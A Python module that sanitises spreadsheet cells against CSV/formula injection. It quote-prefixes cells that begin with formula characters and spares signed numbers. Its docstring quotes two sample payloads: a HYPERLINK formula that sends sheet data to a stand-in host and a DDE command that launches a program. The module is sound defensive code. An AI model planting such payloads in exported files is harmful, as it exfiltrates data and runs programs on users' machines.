"""Cells safe to open in a spreadsheet: the one rule every CSV and Excel file the system writes applies.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula: ``=HYPERLINK("http://x/?"&A1,"Click")`` sends the sheet's data
away, ``+cmd|' /C calc'!A0`` runs a program (DDE). An imported cell is data typed by someone else, and it comes
back out in the rejects CSV, so every writer passes each cell (and each header) through :func:`safe_cell`, which
follows OWASP's advice ("CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection): prefix such a
cell with a single quote, so the spreadsheet shows it as text.

Real values must not be damaged: a cell that is a signed number or a phone number (``-12``, ``-3.5``,
``-1,234.50``, ``+91 98765 43210``, ``+91-98765-43210``: a sign then only digits, spaces, ``.``, ``,``, ``-``
and brackets) cannot call a function or name another cell, and stays as it is. Numbers that are not text (an
``int`` in a pandas column) are never touched.

Reading the files back (a fixed rejects file imported again) undoes the prefix: :func:`restore_cell`, used by
the legacy import's readers, drops a single quote that stands before one of those characters.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any, Literal, TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A sign followed by a number or a phone number: digits with spaces, dots, commas, hyphens and brackets only.
_SIGNED_NUMBER = re.compile(r"[+-][\d\s.,()\-]*\d[\d\s.,()\-]*")

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """``value``, with a single quote put before text a spreadsheet would run as a formula (see the module)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if value[0] in "+-" and _SIGNED_NUMBER.fullmatch(value):
        return value
    return QUOTE + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell` (for ``csv.writer.writerow``)."""
    return [safe_cell(value) for value in values]


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame whose text cells and column names went through :func:`safe_cell`."""
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype.kind not in "biufcmM":  # text (object or string dtype), not numbers or dates
            safe[column] = safe[column].map(safe_cell)
    safe.columns = [safe_cell(column) for column in safe.columns]
    return safe


def write_frame(frame: Any, target: Path | IO[Any], kind: Literal["csv", "xlsx"], sheet_name: str = "Sheet1") -> None:
    """Write a pandas DataFrame as CSV or an Excel workbook (a path or an open file), every cell made safe."""
    safe = safe_frame(frame)
    if kind == "csv":
        safe.to_csv(target, index=False)
    else:
        safe.to_excel(target, index=False, sheet_name=sheet_name)


def restore_cell(text: str) -> str:
    """The value :func:`safe_cell` was given: a leading quote before a formula character is dropped."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text
